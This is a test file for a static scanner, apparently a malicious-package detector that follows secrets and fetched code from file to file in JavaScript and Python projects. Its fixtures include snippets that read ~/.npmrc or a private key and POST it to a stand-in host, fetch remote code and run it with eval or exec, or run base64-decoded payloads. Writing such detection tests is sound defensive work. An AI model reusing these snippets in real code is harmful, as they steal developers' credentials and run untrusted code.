"""Values that go from a function of one file to one of another, and what that amounts to."""

from __future__ import annotations

import pytest

from fimci import readers, sides
from fimci.capabilities import passing
from fimci.look import take
from fimci.model import Capability, Function, Record, Unread
from fimci.reach import settled
from fimci.snapshot import Entry
from tests import growth

MANIFEST = '{"name": "a", "version": "1.0.0", "main": "index.js"}'
READ = 'fs.readFileSync(os.homedir() + "/.npmrc", "utf8")'
#: Gives a secret once it is called, exported in the ways that people export.
GRAB = {
    "member": f"exports.grab = () => {READ};",
    "named": f"function grab() {{ return {READ}; }}\nmodule.exports = {{ grab }};",
    "renamed": f"function read() {{ return {READ}; }}\nmodule.exports = {{ grab: read }};",
    "asynchronous": f"exports.grab = async function () {{ const text = {READ}; return text; }};",
    "a promise": f"exports.grab = () => new Promise((done) => done({READ}));",
    "helped": f"function read() {{ return {READ}; }}\nexports.grab = () => ({{ text: read() }});",
    "method": f"class Box {{ grab() {{ return {READ}; }} }}\nmodule.exports = new Box();",
    "static": f"class Box {{ static grab() {{ return {READ}; }} }}\nmodule.exports = Box;",
    "module": f"export function grab() {{ return {READ}; }}",
    "arrow of a module": f"export const grab = async () => {READ};",
    "listed": f"function read() {{ return {READ}; }}\nexport {{ read as grab }};",
}
ONLY = {
    "function": f"module.exports = function () {{ return {READ}; }};",
    "arrow": f"module.exports = () => {READ};",
    "default": f"export default function grab() {{ return {READ}; }}",
    "default of a name": f"const read = async () => {READ};\nexport default read;",
}
SEND = {
    "member": 'exports.send = (x) => fetch("https://left.example/", { method: "POST", body: x });',
    "named": (
        'async function send(x) { await fetch("https://left.example/", { body: JSON.stringify({ x }) }); }\n'
        "module.exports = { send };"
    ),
    "helped": (
        'const post = (x) => fetch("https://left.example/", { body: x });\n'
        "exports.send = (y) => post(btoa(y));"
    ),
    "module": "export async function send(x) { await fetch(`https://left.example/?${x}`); }",
    "axios": (
        'import axios from "axios";\nexport const send = (x) => axios.post("https://left.example/", { x });'
    ),
}
#: Passes it on, in the ways that people write it.
PASS = {
    "at once": 'require("./send").send(require("./grab").grab());',
    "taken out": ('const { grab } = require("./grab");\nconst { send } = require("./send");\nsend(grab());'),
    "whole": 'const from = require("./grab"), to = require("./send");\nto.send(from.grab());',
    "a variable": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
        "async function main() { const k = await grab(); send(k); }\nmain();"
    ),
    "encoded": (
        'import { grab } from "./grab.js";\nimport { send as post } from "./send.js";\n'
        "post(Buffer.from(JSON.stringify({ k: grab() })).toString('hex'));"
    ),
    "namespaces": (
        'import * as from from "./grab.js";\nimport * as to from "./send.js";\nto.send(await from.grab());'
    ),
    "compiled": (
        'const grab_1 = __importStar(require("./grab"));\nconst send_1 = require("./send");\n'
        "(0, send_1.send)((0, grab_1.grab)());"
    ),
    "a promise": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
        "Promise.resolve(grab()).then((k) => send(k));"
    ),
    "handed": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\ngrab().then(send);'
    ),
    "loaded late": (
        'async function main() { const { grab } = await import("./grab.js");\n'
        '  const lib = await import("./send.js"); lib.send(grab()); }\nmain();'
    ),
    "later": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
        "exports.run = () => { const k = grab(); return send(k); };"
    ),
}
PASS_ONLY = {
    "at once": 'const { send } = require("./send");\nsend(require("./grab")());',
    "by a name": 'const read = require("./grab");\nconst { send } = require("./send");\nsend(read());',
    "imported": 'import read from "./grab.js";\nimport { send } from "./send.js";\nsend(await read());',
}
HEAD = {
    True: 'import fs from "fs";\nimport os from "os";\n',
    False: 'const fs = require("fs"), os = require("os");\n',
}


def entry(path: str, text: str) -> Entry:
    return Entry(path=path, read=lambda: iter([text.encode()]))


def records(files: dict[str, str]) -> list[Record]:
    entries = [entry(path, text) for path, text in files.items()]
    found: list[Record] = take(entries, sides.recipe(code=True), readers.ALL)
    return list(settled(found, project=False))


def told(files: dict[str, str]) -> set[tuple[str, str, str]]:
    names = {"download-and-run", "exfiltration", "encoded-payload"}
    return {
        (r.path, r.name, r.subject) for r in records(files) if isinstance(r, Capability) and r.name in names
    }


def package(index: str, grab: str, send: str = SEND["member"]) -> dict[str, str]:
    head = HEAD["export " in grab]
    return {"package.json": MANIFEST, "index.js": index, "grab.js": head + grab, "send.js": send}


CHAIN = {("send.js", "exfiltration", "grab.js -> left.example")}


@pytest.mark.parametrize("passed", PASS.values(), ids=PASS)
@pytest.mark.parametrize("grab", GRAB.values(), ids=GRAB)
def test_a_secret_is_followed_from_file_to_file(grab: str, passed: str) -> None:
    assert told(package(passed, grab)) == CHAIN


@pytest.mark.parametrize("passed", PASS_ONLY.values(), ids=PASS_ONLY)
@pytest.mark.parametrize("grab", ONLY.values(), ids=ONLY)
def test_so_it_is_from_the_one_function_of_a_file(grab: str, passed: str) -> None:
    assert told(package(passed, grab)) == CHAIN


@pytest.mark.parametrize("send", SEND.values(), ids=SEND)
def test_whatever_sends_it(send: str) -> None:
    assert told(package(PASS["taken out"], GRAB["member"], send)) == CHAIN


#: The same for Python.
PYTHON_READ = "open(os.path.expanduser('~/.npmrc')).read()"
PYTHON_GRAB = {
    "function": f"def grab():\n    return {PYTHON_READ}\n",
    "kept": f"def grab():\n    text = {PYTHON_READ}\n    return {{'text': text}}\n",
    "asynchronous": f"async def grab():\n    return {PYTHON_READ}\n",
    "helped": f"def read():\n    return {PYTHON_READ}\n\ndef grab():\n    return read().strip()\n",
}
PYTHON_SEND = {
    "function": "def send(x):\n    requests.post('https://left.example/', data=x)\n",
    "json": "def send(x):\n    requests.put('https://left.example/', json={'x': x})\n",
    "helped": (
        "def post(y):\n    requests.post('https://left.example/', data=y)\n\n"
        "def send(x):\n    post(x.encode())\n"
    ),
    "asynchronous": (
        "async def send(x):\n    async with httpx.AsyncClient() as line:\n"
        "        await line.post('https://left.example/', data=x)\n"
    ),
}
PYTHON_PASS = {
    "at once": "from .grab import grab\nfrom .send import send\nsend(grab())\n",
    "named": "from .grab import grab as a\nfrom .send import send as b\nb(json.dumps({'k': a()}))\n",
    "modules": "from . import grab, send\nsend.send(grab.grab())\n",
    "absolute": "from pkg.grab import grab\nimport pkg.send\npkg.send.send(grab())\n",
    "a variable": (
        "from .grab import grab\nfrom .send import send\n\n"
        "def main():\n    k = grab()\n    send(k)\n\nmain()\n"
    ),
    "awaited": (
        "import asyncio\nfrom .grab import grab\nfrom .send import send\n\n"
        "async def main():\n    k = await grab()\n    await send(base64.b64encode(k.encode()))\n\n"
        "asyncio.run(main())\n"
    ),
    "later": "from .grab import grab\nfrom .send import send\n\ndef run():\n    send(x=grab())\n",
    "handed": (
        "import threading\nfrom .grab import grab\nfrom .send import send\n"
        "threading.Thread(target=send, args=(grab(),)).start()\n"
    ),
}
PYTHON_CHAIN = {("pkg/send.py", "exfiltration", "grab.py -> left.example")}


def module(init: str, grab: str, send: str = PYTHON_SEND["function"]) -> dict[str, str]:
    return {
        "pkg/__init__.py": init,
        "pkg/grab.py": f"import os\n\n{grab}",
        "pkg/send.py": f"import httpx, requests\n\n{send}",
    }


@pytest.mark.parametrize("passed", PYTHON_PASS.values(), ids=PYTHON_PASS)
@pytest.mark.parametrize("grab", PYTHON_GRAB.values(), ids=PYTHON_GRAB)
def test_a_secret_is_followed_from_module_to_module(grab: str, passed: str) -> None:
    assert told(module(passed, grab)) == PYTHON_CHAIN


@pytest.mark.parametrize("send", PYTHON_SEND.values(), ids=PYTHON_SEND)
def test_whatever_of_python_sends_it(send: str) -> None:
    assert told(module(PYTHON_PASS["at once"], PYTHON_GRAB["function"], send)) == PYTHON_CHAIN


#: A method of an object that another file makes.
BOXES = {
    "of its class": f"class Box {{ grab() {{ return {READ}; }} }}\nmodule.exports = {{ Box }};",
    "of what makes it": (
        f"class Box {{ async grab() {{ return {READ}; }} }}\n"
        "module.exports = { Box: function () { return new Box(); } };"
    ),
}
LINES = {
    "kept": (
        'const { Box } = require("./grab");\nconst { Line } = require("./send");\n'
        "const box = new Box(), line = new Line();\nline.send(await box.grab());"
    ),
    "at once": (
        'import { Box } from "./grab.js";\nimport { Line } from "./send.js";\n'
        "new Line().send(new Box().grab());"
    ),
    "in a function": (
        'import { Box } from "./grab.js";\nimport { Line } from "./send.js";\n'
        "export async function run() { const box = new Box(); const k = await box.grab();\n"
        "  const line = new Line(); await line.send(k); }"
    ),
}
LINE = (
    'class Line { async send(x) { await fetch("https://left.example/", { body: x }); } }\n'
    "module.exports = { Line };"
)


@pytest.mark.parametrize("passed", LINES.values(), ids=LINES)
@pytest.mark.parametrize("box", BOXES.values(), ids=BOXES)
def test_methods_are_followed_too(box: str, passed: str) -> None:
    assert told(package(passed, box, LINE)) == CHAIN


def test_so_are_those_of_python() -> None:
    files = {
        "pkg/__init__.py": (
            "from .grab import Box\nfrom .send import Line\n\ndef run():\n"
            "    box, line = Box(), Line()\n    other = Line()\n    other.send(Box().grab())\n"
        ),
        "pkg/grab.py": f"import os\n\nclass Box:\n    def grab(self):\n        return {PYTHON_READ}\n",
        "pkg/send.py": (
            "import requests\n\nclass Line:\n    def send(self, x):\n"
            "        requests.post('https://left.example/', data=x)\n"
        ),
    }
    assert told(files) == PYTHON_CHAIN


@pytest.mark.parametrize(
    "between",
    [
        'export * from "./grab.js";\nexport * from "./send.js";\n',
        'export { grab } from "./grab.js";\nexport { send } from "./send.js";\n',
        'import { grab } from "./grab.js";\nimport { send } from "./send.js";\nexport { grab, send };\n',
        'module.exports = { ...require("./grab"), ...require("./send") };\n',
        'exports.grab = require("./grab").grab;\nexports.send = require("./send").send;\n',
        (
            'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
            "exports.grab = async () => { const k = await grab(); return k; };\n"
            "exports.send = async (x) => { send(x); };\nexports.home = process.env.HOME;\n"
        ),
    ],
)
def test_what_a_file_hands_on_is_followed(between: str) -> None:
    index = 'const { grab, send } = require("./lib");\nsend(grab());'
    assert told({**package(index, GRAB["member"]), "lib.js": between}) == CHAIN


def test_so_it_is_in_python() -> None:
    files = module("from .grab import grab\nfrom .send import *\n", PYTHON_GRAB["function"])
    files["pkg/run.py"] = "from pkg import grab, send\n\ndef run():\n    send(grab())\n"
    assert told(files) == PYTHON_CHAIN


KEY = (
    'const { queue } = require("./send");\nclass Keypair {\n'
    "  static fromSecretKey(secretKey) { queue(bs58.encode(secretKey)); return new Keypair(secretKey); }\n}\n"
    "module.exports = { Keypair, publicKey: 1 };"
)
POST = 'exports.queue = (x) => fetch("https://left.example/", { method: "POST", body: x });'


def test_so_is_a_private_key_that_a_function_is_given() -> None:
    files = {"package.json": MANIFEST, "index.js": f"fetch(1);\n{KEY}", "send.js": POST}
    assert told(files) == {("send.js", "exfiltration", "index.js -> left.example")}
    assert (
        told(files | {"send.js": 'exports.queue = (x) => fetch(HOST, { method: "POST", body: x });'}) == set()
    )


FETCHES = {
    "a.js": 'exports.load = async () => (await fetch("https://left.example/x")).text();',
    "b.js": "exports.run = (code) => eval(code);",
}


def test_what_one_fetches_another_one_runs() -> None:
    index = (
        'const { load } = require("./a");\nconst { run } = require("./b");\n'
        "exports.start = () => load().then(run);"
    )
    files = {"package.json": MANIFEST, "index.js": index, **FETCHES}
    assert told(files) == {("b.js", "download-and-run", "a.js -> built")}


def test_what_one_fetches_is_run_where_it_is_called() -> None:
    index = (
        'const { load } = require("./a");\nconst { exec } = require("child_process");\n'
        "exports.start = async () => { const line = await load(); exec(line); };"
    )
    files = {"package.json": MANIFEST, "index.js": index, **FETCHES}
    assert told(files) == {("index.js", "download-and-run", "a.js -> *")}


def test_what_one_decodes_another_one_runs() -> None:
    index = 'const { load } = require("./a");\nconst { run } = require("./b");\nrun(load(process.argv[2]));'
    files = {"package.json": MANIFEST, "index.js": index, **FETCHES}
    files["a.js"] = "exports.load = (text) => Buffer.from(text, 'base64').toString();"
    assert {(path, name) for path, name, _ in told(files)} == {("b.js", "encoded-payload")}


def test_python_fetches_decodes_and_runs() -> None:
    files = {
        "pkg/__init__.py": "from .a import load\nfrom .b import run\n\ndef start():\n    run(load())\n",
        "pkg/a.py": "import requests\n\ndef load():\n    return requests.get('https://left.example/').text\n",
        "pkg/b.py": "def run(code):\n    exec(code)\n",
    }
    assert {(path, name) for path, name, _ in told(files)} == {("pkg/b.py", "download-and-run")}
    files["pkg/a.py"] = "import base64\n\ndef load(x=0):\n    return base64.b64decode(KEPT[x])\n"
    assert {(path, name) for path, name, _ in told(files)} == {("pkg/b.py", "encoded-payload")}


#: Nothing of the secret goes away.
QUIET = {
    "not passed": "grab(); send(1);",
    "something else": "const k = grab(), l = 1; send(l); return k;",
    "as who asks": "send({ token: grab() });",
    "as another parameter": "send(1, grab());",
    "of another name": "send(other());",
    "its length": "send(grab().length);",
}


@pytest.mark.parametrize("code", QUIET.values(), ids=QUIET)
def test_what_is_not_passed_on_is_no_chain(code: str) -> None:
    load = 'const { grab, other } = require("./grab");\nconst { send } = require("./send");\n'
    grab = GRAB["member"] + "\nexports.other = () => 1;"
    assert told(package(f"{load}exports.run = () => {{ {code} }};", grab)) == set()
    assert told(package(f"{load}exports.run = () => {{ send(grab()); }};", grab)) == CHAIN


def test_functions_of_the_file_are_its_own() -> None:
    assert told(package("function grab() {}\nfunction send(x) {}\nsend(grab());", GRAB["member"])) == set()


def test_a_client_that_says_who_asks_is_none() -> None:
    send = (
        "exports.send = (url, token) =>\n"
        "  fetch(`https://left.example/${url}`, { headers: { authorization: `Bearer ${token}` } });"
    )
    index = (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
        'exports.list = () => send("list", grab());'
    )
    assert told(package(index, "exports.grab = () => process.env.LEFT_TOKEN;", send)) == set()


def test_rings_of_functions_end() -> None:
    ring = {
        f"f{at}.js": (
            f'const {{ pass }} = require("./f{(at + 1) % 9}");\n'
            "exports.pass = async (x) => { fetch(1); const k = await pass(x); return k; };"
        )
        for at in range(9)
    }
    assert told({"package.json": MANIFEST, "index.js": 'require("./f0").pass(1);', **ring}) == set()
    ring["f5.js"] += '\nexports.send = (x) => fetch("https://left.example/", { body: x });'
    ring["f4.js"] = (
        'const { pass, send } = require("./f5");\n'
        "exports.pass = async (x) => { fetch(1); send(x); const k = await pass(x); return k; };"
    )
    load = 'const { pass } = require("./f0");\nconst { grab } = require("./grab");\n'
    index = f"{load}exports.a = () => pass(grab());"
    files = {**package(index, GRAB["member"]), **ring}
    assert told(files) == {("f5.js", "exfiltration", "grab.js -> left.example")}


def chain_of(count: int) -> dict[tuple[str, str], Function]:
    """Return functions of which each gives what the next one gives, and hands on to it what it is given."""
    found = [
        Function(
            path=f"f{at}.js",
            name="f",
            passes=((f"./f{at + 1}#f", "return"), ("#0", f"0@./f{at + 1}#f")),
        )
        for at in range(count)
    ]
    found.append(Function(path=f"f{count}.js", name="f", passes=(("#0", "sends"), ("secret", "return"))))
    found.append(Function(path="i.js", name="", passes=(("./f0#f", "0@./f0#f"),)))
    return {(one.path, one.name): one for one in found}


def means(path: str, call: tuple[str, str]) -> tuple[str, str] | None:
    del path
    return f"{call[0].removeprefix('./')}.js", call[1]


def test_thousands_of_functions_are_followed() -> None:
    found = passing.passed(chain_of(20_000), means)
    last = ("f20000.js", "f")
    assert ("exfiltration", last, last, ("i.js", "")) in found.chains
    assert not found.stopped


def test_what_is_not_followed_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(passing, "_WORK", 100)
    assert passing.passed(chain_of(200), means).stopped
    monkeypatch.setattr(passing, "_WORK", 1_000)
    monkeypatch.setattr(passing, "_OF_ONE", 1)
    assert passing.passed(chain_of(2), means).stopped
    monkeypatch.setattr(passing, "_OF_ONE", 9)
    files = package(PASS["taken out"], GRAB["member"])
    assert not [one for one in records(files) if isinstance(one, Unread)]
    monkeypatch.setattr(passing, "_OF_ONE", 0)
    assert {one.part for one in records(files) if isinstance(one, Unread)} == {"calls"}


def test_everybody_calls_everybody() -> None:
    names = [f"f{at}" for at in range(120)]
    edges = tuple(edge for name in names for edge in ((f"./{name}#f", "return"), ("#0", f"0@./{name}#f")))
    found = {(f"{name}.js", "f"): Function(path=f"{name}.js", name="f", passes=edges) for name in names}
    found["f7.js", "f"] = Function(path="f7.js", name="f", passes=(*edges, ("secret", "return")))
    found["f8.js", "f"] = Function(path="f8.js", name="f", passes=(*edges, ("#0", "sends")))
    assert not passing.passed(found, means).stopped


@pytest.mark.parametrize("path", ["a.js", "a.py"])
def test_many_functions_that_return_something_are_looked_at_or_it_is_said(path: str) -> None:
    one = {
        "a.js": "exports.f{0} = () => require('fs').readFileSync('/etc/{0}');\n",
        "a.py": "def f{0}():\n    return open('/etc/{0}', 'w')\n\n",
    }[path]
    text = "".join(one.replace("{0}", str(at)) for at in range(2_500))
    found = take([entry(path, text)], sides.recipe(code=True), readers.ALL)
    assert "more calls of other files than are followed" in {r.why for r in found if isinstance(r, Unread)}


@pytest.mark.no_cover
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.js", 'import { f } from "./f";\n' + "f(" * 20_000),
        ("a.js", 'import { f } from "./f";\n' + "const k = f(k);\n" * 20_000),
        ("a.js", 'import { f } from "./f";\n' + "const " * 50_000 + "f("),
        ("a.py", "from .f import f\n" + "f(" * 20_000),
        ("a.py", "from .f import f\n" + "k = f(k)\n" * 20_000),
        ("a.py", "from .f import f\n" + "a, " * 50_000 + "= f("),
    ],
)
def test_hostile_texts_take_linear_time(path: str, text: str) -> None:
    growth.is_linear_in(lambda part: take([entry(path, part)], sides.recipe(code=True), readers.ALL), text)


TAKEN = 'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
#: What is put around a passing so that nobody sees it: calls, arguments, uses.
PADDED = {
    "calls of one": TAKEN + "".join(f"exports.f{n} = () => send({n});\n" for n in range(600)),
    "calls of both": TAKEN + "".join(f"send({n}); grab({n});\n" for n in range(600)),
    "functions": TAKEN + "".join(f"exports.f{n} = () => require('os').hostname({n});\n" for n in range(90)),
}


@pytest.mark.parametrize("way", PADDED)
@pytest.mark.parametrize(
    "call",
    [
        "exports.go = () => { send(grab()); };",
        f"exports.go = () => {{ send(/* {'a ' * 1500} */ grab()); }};",
        f"exports.go = () => {{ send({', '.join(map(str, range(200)))}, grab()); }};",
        f"exports.go = () => {{ send({{ {', '.join(f'a{n}: {n}' for n in range(200))}, key: grab() }}); }};",
    ],
)
def test_padding_hides_no_passing(way: str, call: str) -> None:
    send = 'exports.send = (...x) => fetch("https://left.example/", { body: x });'
    assert told(package(PADDED[way] + call, GRAB["member"], send)) == CHAIN


def test_calls_in_each_other_hide_no_passing() -> None:
    call = f'const {{ f }} = require("./f");\nexports.go = () => send({"f(" * 1_000}grab(){")" * 1_000});'
    files = package(TAKEN + call, GRAB["member"], SEND["member"])
    assert told({**files, "f.js": "exports.f = (x) => x;"}) == CHAIN


def test_an_object_is_followed_however_often_it_is_used() -> None:
    line = 'exports.Line = class { send(x) { return fetch("https://left.example/", { body: x }); } };'
    many = (
        'const { grab } = require("./grab");\nconst { Line } = require("./send");\nconst line = new Line();\n'
    )
    many += "line.open();\n" * 500 + "line.send(grab());\n"
    assert told(package(many, GRAB["member"], line)) == CHAIN


@pytest.mark.no_cover
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.js", "".join(f'const {{ a{n} }} = require("./a");\na{n}();\n' for n in range(25_000))),
        ("a.js", 'const { a } = require("./a");\n' + "a();\n" * 5_000),
        ("a.py", "".join(f"from .a import a{n}\na{n}()\n" for n in range(25_000))),
        ("a.py", "from .a import a\n" + "a()\n" * 5_000),
    ],
)
def test_more_calls_than_are_followed_are_said(path: str, text: str) -> None:
    found = take([entry(path, text)], sides.recipe(code=True), readers.ALL)
    assert "more calls of other files than are followed" in {r.why for r in found if isinstance(r, Unread)}


@pytest.mark.parametrize(
    ("taken", "given"),
    [
        ("...x", "0, grab()"),
        ("a, ...x", "0, 0, grab()"),
        ("a, x", "...[0, grab()]"),
        ("{ x }", "{ x: grab() }"),
    ],
)
def test_a_secret_is_followed_however_it_is_given(taken: str, given: str) -> None:
    send = f'exports.send = ({taken}) => fetch("https://left.example/", {{ body: x }});'
    assert told(package(f"{TAKEN}exports.go = () => send({given});", GRAB["member"], send)) == CHAIN


@pytest.mark.parametrize(
    ("taken", "given"),
    [
        ("*x", "0, grab()"),
        ("*x: str", "0, grab()"),
        ("**x", "k=grab()"),
        ("*, x", "x=grab()"),
        ("a, x", "x=grab(), a=0"),
        ("a, x", "*[0, grab()]"),
    ],
)
def test_a_secret_of_a_module_is_followed_however_it_is_given(taken: str, given: str) -> None:
    files = {
        "a/__init__.py": "",
        "a/grab.py": "import os\ndef grab():\n    return open(os.path.expanduser('~/.npmrc')).read()\n",
        "a/send.py": (
            f"import requests\ndef send({taken}):\n    requests.post('https://left.example/', data=x)\n"
        ),
        "a/main.py": f"from .grab import grab\nfrom .send import send\ndef go():\n    send({given})\n",
    }
    assert told(files) == {("a/send.py", "exfiltration", "grab.py -> left.example")}
